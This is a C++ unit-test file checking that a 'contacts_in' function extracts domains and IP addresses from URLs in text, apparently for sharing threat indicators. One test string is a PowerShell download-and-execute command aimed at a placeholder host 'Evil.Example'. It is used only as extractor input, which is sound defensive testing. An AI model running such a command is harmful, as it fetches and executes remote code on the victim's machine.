#include "exchange/contacts.h"

#include <gtest/gtest.h>

namespace postern::exchange {
namespace {

std::string contacts_of(std::string_view text) {
  std::string out;
  for (const Detail& detail : contacts_in(text)) out += detail.name + " " + detail.value + "\n";
  return out;
}

TEST(Contacts, AreTheHostsOfUrls) {
  const struct {
    std::string_view text, contacts;
  } cases[] = {
      {"x = \"http://p.estonine.com/low?ipc\";", "domain p.estonine.com\n"},
      {"IEX(New-Object Net.WebClient).downloadstring('HTTPS://Evil.Example:8443/a')",
       "domain evil.example\n"},
      {"ftp://user:word@198.51.100.7/x", "address 198.51.100.7\n"},
      {"http://a.example http://a.example/2 ws://b.example",
       "domain a.example\ndomain b.example\n"},
      {"http://localhost/ http://intranet/ http:/// file://x.example/", ""},
      {"xhttp://c.example", "domain c.example\n"},
      {"no url: c.example, 198.51.100.7", ""},
      {"http://a..b/ http://-/ http://%20/", ""},
      {"", ""},
      {"://", ""},
  };
  for (const auto& one : cases) EXPECT_EQ(contacts_of(one.text), one.contacts) << one.text;
}

TEST(Contacts, OfAPageOfLinksOnlyTheFirstAreTaken) {
  std::string text;
  for (int i = 0; i < 100; ++i) text += "http://h" + std::to_string(i) + ".example/ ";
  EXPECT_EQ(contacts_in(text).size(), kMaxContacts);
  EXPECT_TRUE(contacts_in("http://" + std::string(300, 'a') + ".example").empty());
}

}  // namespace
}  // namespace postern::exchange
